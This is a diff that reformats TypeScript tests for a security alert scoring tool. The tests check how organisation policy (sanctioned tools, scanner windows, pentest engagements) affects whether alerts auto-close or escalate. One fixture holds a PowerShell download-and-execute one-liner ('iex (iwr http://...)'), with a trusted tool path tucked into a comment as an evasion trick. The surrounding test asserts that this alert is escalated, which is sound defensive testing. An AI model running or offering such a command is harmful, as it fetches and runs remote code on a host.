@@ -10,8 +10,15 @@ import { scoreAlert } from '../../src/domain/scoring';
 import { loadPolicy } from '../../src/policy/load-policy';
 
 const dir = mkdtempSync(join(tmpdir(), 'policy-'));
-const file = (name: string, text: string) => { const p = join(dir, name); writeFileSync(p, text); return p; };
-const policy = loadPolicy([file('org.yaml', `
+const file = (name: string, text: string) => {
+  const p = join(dir, name);
+  writeFileSync(p, text);
+  return p;
+};
+const policy = loadPolicy([
+  file(
+    'org.yaml',
+    `
 version: t
 organisation:
   sanctionedTools: ["C:\\\\Windows\\\\CCM\\\\"]
@@ -19,23 +26,33 @@ organisation:
   scanners: [{ name: nessus, ranges: ["10.1.99.0/24"], windows: [{ days: [tue], from: "05:00", to: "09:00" }] }]
   engagements: [{ name: pentest, start: "2026-03-16", end: "2026-03-20", sourceRanges: ["203.0.113.10/31"], users: [pentester] }]
   phishingSimulation: { senders: [sim.example], headers: [X-Sim-Campaign] }
-`)]);
+`,
+  ),
+]);
 
 const score = (a: Partial<AlertInput>) => {
   const alert = parseAlert({ source: 't', sourceId: '1', time: '2026-03-17T06:00:00Z', title: 't', severity: 'low', ...a });
   return scoreAlert(alert.severity, [], policy, extractObservables(alert), triageContext(alert));
 };
-const ps = (commandLine: string, parents: object[] = []) => ({ processes: [{ path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine, parents }] });
+const ps = (commandLine: string, parents: object[] = []) => ({
+  processes: [{ path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine, parents }],
+});
 
 describe('organisation context (structured fields only)', () => {
   it('a management agent explains a process it launched, by the parent image path', () => {
-    const r = score({ attackTechniques: ['T1059'], observables: ps('powershell -File x.ps1', [{ path: 'C:\\Windows\\CCM\\CcmExec.exe' }]) });
+    const r = score({
+      attackTechniques: ['T1059'],
+      observables: ps('powershell -File x.ps1', [{ path: 'C:\\Windows\\CCM\\CcmExec.exe' }]),
+    });
     expect(r.reasons.join('\n')).toContain('management agent SCCM');
     expect(r.disposition).toBe('auto_close');
   });
 
   it('a sanctioned tool named in a comment of a malicious command line gets no credit', () => {
-    const r = score({ attackTechniques: ['T1059'], observables: ps('powershell iex (iwr http://203.0.113.9/a) # C:\\Windows\\CCM\\CcmExec.exe ansible jamf') });
+    const r = score({
+      attackTechniques: ['T1059'],
+      observables: ps('powershell iex (iwr http://203.0.113.9/a) # C:\\Windows\\CCM\\CcmExec.exe ansible jamf'),
+    });
     expect(r.reasons.join('\n')).not.toMatch(/management agent|sanctioned/);
     expect(r.disposition).toBe('escalate');
   });
@@ -50,7 +67,11 @@ describe('organisation context (structured fields only)', () => {
 
   it('an engagement holds only between its dates, from its range', () => {
     const during = score({ severity: 'medium', observables: { users: [{ name: 'pentester' }], network: [{ srcIp: '203.0.113.11' }] } });
-    const after = score({ severity: 'medium', time: '2026-03-25T06:00:00Z', observables: { users: [{ name: 'pentester' }], network: [{ srcIp: '203.0.113.11' }] } });
+    const after = score({
+      severity: 'medium',
+      time: '2026-03-25T06:00:00Z',
+      observables: { users: [{ name: 'pentester' }], network: [{ srcIp: '203.0.113.11' }] },
+    });
     expect(during.reasons.join('\n')).toContain('authorised engagement pentest');
     expect(after.reasons.join('\n')).not.toContain('engagement');
   });
@@ -78,7 +99,24 @@ describe('guards that never auto-close', () => {
   });
   it('an analyzer over budget keeps it open', () => {
     const alert = parseAlert({ source: 't', sourceId: '1', time: '2026-03-17T06:00:00Z', title: 't', severity: 'informational' });
-    const r = scoreAlert('informational', [{ analyzer: 'email', verdict: 'unknown', score: 0, confidence: 0, summary: 'x', evidence: [], attack: [], error: 'budget exceeded' }], policy, extractObservables(alert), triageContext(alert));
+    const r = scoreAlert(
+      'informational',
+      [
+        {
+          analyzer: 'email',
+          verdict: 'unknown',
+          score: 0,
+          confidence: 0,
+          summary: 'x',
+          evidence: [],
+          attack: [],
+          error: 'budget exceeded',
+        },
+      ],
+      policy,
+      extractObservables(alert),
+      triageContext(alert),
+    );
     expect(r.disposition).toBe('escalate');
   });
   it('nothing found on a high-severity alert does not close it; an explanation can', () => {
@@ -107,7 +145,14 @@ describe('policy files', () => {
   });
   it('validates CIDRs and windows', () => {
     expect(() => loadPolicy([file('cidr.yaml', 'organisation:\n  scanners: [{ name: s, ranges: ["10.0.0.0/33"] }]\n')])).toThrow(/CIDR/);
-    expect(() => loadPolicy([file('win.yaml', 'organisation:\n  scanners: [{ name: s, ranges: ["10.0.0.0/8"], windows: [{ days: [tue], from: "25:00", to: "01:00" }] }]\n')])).toThrow(/HH:MM/);
+    expect(() =>
+      loadPolicy([
+        file(
+          'win.yaml',
+          'organisation:\n  scanners: [{ name: s, ranges: ["10.0.0.0/8"], windows: [{ days: [tue], from: "25:00", to: "01:00" }] }]\n',
+        ),
+      ]),
+    ).toThrow(/HH:MM/);
   });
   it('the Fenwick context fixture loads', () => {
     const p = loadPolicy([join(__dirname, '../fixtures/policy/fenwick.yaml')]);
